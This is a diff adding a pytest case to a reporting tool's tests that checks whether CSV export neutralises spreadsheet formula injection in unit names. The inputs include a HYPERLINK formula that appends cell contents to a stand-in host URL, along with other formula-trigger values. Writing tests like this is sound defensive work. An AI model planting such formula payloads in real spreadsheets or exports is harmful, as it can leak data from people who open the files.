@@ -6,6 +6,8 @@ Days are Vietnam days (UTC+7): 17:30 UTC is already 00:30 of the next day there.
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import Sequence
 from dataclasses import asdict
 from datetime import UTC, date, datetime
@@ -167,3 +169,15 @@ def test_json_names_the_period_and_today(db: Database, units: dict[str, int]) ->
     assert answer["total"] == {"unit_code": "*", "unit_name": "Tổng cộng", **counts}
     assert answer["units"] == [{"unit_code": "SS", "unit_name": "UBND huyện Sóc Sơn", **counts}]
     assert _figures(db, [units["SS"]], None, None).to_json()["from"] is None
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2",
+                                  "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_csv_cells_that_would_be_formulas_are_text(db: Database, name: str) -> None:
+    with db.session() as session:
+        unit_id = _unit(session, name[:1] + "X", name)
+    text = _figures(db, [unit_id], *MARCH).to_csv()
+    row = list(csv.reader(io.StringIO(text, newline="")))[1]
+    assert row[0] == "'" + " ".join((name[:1] + "X").splitlines())  # a line break: a space
+    assert row[1] == "'" + " ".join(name.splitlines())
+    assert row[2:4] == ["0", "0"]  # numbers stay numbers
